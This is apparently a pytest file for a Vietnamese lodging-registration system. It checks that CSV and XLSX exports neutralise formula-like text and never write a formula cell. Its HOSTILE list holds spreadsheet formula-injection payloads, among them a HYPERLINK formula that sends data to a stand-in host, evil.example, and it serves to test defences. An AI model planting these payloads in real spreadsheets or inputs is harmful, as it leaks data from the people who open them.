"""The one safe writer of CSV and XLSX: hostile text comes out as text, through every export
(the analytics feeds and compliance lists all go through core.render; error sheets, passenger
lists and templates through ingest's sheets)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from python_calamine import CalamineWorkbook
from starlette.requests import Request

from luutru_analytics.core import render
from luutru_common import safe_sheets
from luutru_ingest.core import sheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/leak","x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "  \n @cmd",
    "\u3000=1+1",  # an ideographic space is whitespace to spreadsheets too
]
HARMLESS = ["Nguyễn Văn An", "Khách sạn 1=1", "a-b", "", "Nhà nghỉ @ Biên Hòa"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_neutralised(value):
    assert safe_sheets.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_left_alone(value):
    assert safe_sheets.neutralise(value) == value


def test_numbers_and_dates_stay_what_they_are():
    assert safe_sheets.cell(-5) == -5
    assert safe_sheets.cell(Decimal("-1.5")) == Decimal("-1.5")
    assert safe_sheets.cell(date(2026, 12, 3)) == "2026-12-03"
    assert safe_sheets.cell(None) == ""


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(data: bytes) -> list:
    """The values of every sheet, after checking no cell of the file holds a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return [
        c
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for c in row
    ]


def _dangerous(cells) -> list:
    return [c for c in cells if isinstance(c, str) and safe_sheets.is_formula_like(c)]


def _request(query: str) -> Request:
    return Request({"type": "http", "method": "GET", "headers": [], "query_string": query.encode()})


@pytest.mark.parametrize("query", ["format=csv", "format=xlsx", "format=csv&lang=vi",
                                   "format=xlsx&lang=en"])  # fmt: skip
def test_every_feed_shape_neutralises_hostile_names(query):
    rows = [{"facility_name": name, "facility_code": name, "guests": 3} for name in HOSTILE]
    response = render.render(_request(query), {"rows": rows}, name="silent")
    cells = _csv_cells(response.body) if "csv" in query else _xlsx_cells(response.body)
    assert _dangerous(cells) == []
    assert "'" + HOSTILE[0] in cells
    assert 3 in cells or "3" in cells  # numbers are still numbers


def test_error_sheets_passenger_lists_and_templates_are_neutralised():
    rows = [["Họ và tên", "Lỗi / Errors"], *([name, name] for name in HOSTILE)]
    assert _dangerous(_csv_cells(sheets.to_csv(rows))) == []
    assert _dangerous(_xlsx_cells(sheets.to_xlsx({"Errors": rows}))) == []
    assert _dangerous(_xlsx_cells(sheets.template_xlsx())) == []
    assert _dangerous(_csv_cells(sheets.to_csv(sheets.passenger_template_rows()))) == []


def test_an_xlsx_cell_is_never_a_formula():
    data = safe_sheets.xlsx_bytes({"S": [["h"], ['=HYPERLINK("x")']]})
    assert _xlsx_cells(data) == ["h", '\'=HYPERLINK("x")']
